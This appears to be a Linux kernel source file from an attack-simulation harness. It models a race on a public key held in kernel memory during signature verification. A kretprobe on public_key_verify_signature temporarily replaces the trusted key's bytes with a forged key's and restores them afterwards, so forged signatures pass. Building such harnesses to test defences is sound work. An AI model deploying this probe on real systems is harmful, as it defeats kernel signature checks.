// SPDX-License-Identifier: GPL-2.0-only
/*
 * The attack on the key in flight. In the mode "keys" the public key passes
 * through kernel memory for the length of one verification. An attacker on
 * another CPU who finds it there in time wins. The probe stands for that
 * attacker, and for one who never misses.
 */
#include <crypto/public_key.h>
#include <keys/asymmetric-subtype.h>
#include <linux/kprobes.h>

#include "attack.h"

static struct key *racer;

struct in_flight {
	struct public_key *pub;
	void *key;
};

static int overwrite(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	const struct public_key *mine = racer->payload.data[asym_crypto];
	struct public_key *pub = (void *)regs_get_kernel_argument(regs, 0);
	struct in_flight *saved = (void *)ri->data;

	saved->pub = NULL;
	if (pub->keylen != mine->keylen)
		return 0;
	saved->pub = pub;
	saved->key = pub->key;
	pub->key = mine->key;
	return 0;
}

static int put_back(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct in_flight *saved = (void *)ri->data;

	if (saved->pub)
		saved->pub->key = saved->key;
	return 0;
}

static struct kretprobe probe = {
	.kp.symbol_name = "public_key_verify_signature",
	.entry_handler = overwrite,
	.handler = put_back,
	.data_size = sizeof(struct in_flight),
	.maxactive = 8,
};

static bool probing;

int attack_race(const struct target *t)
{
	int rc;

	racer = forge_key(t->cert);
	if (!racer)
		return -ENOENT;
	rc = register_kretprobe(&probe);
	probing = !rc;
	return rc;
}

void undo_race(void)
{
	if (probing)
		unregister_kretprobe(&probe);
	probing = false;
	if (racer)
		key_put(racer);
	racer = NULL;
}
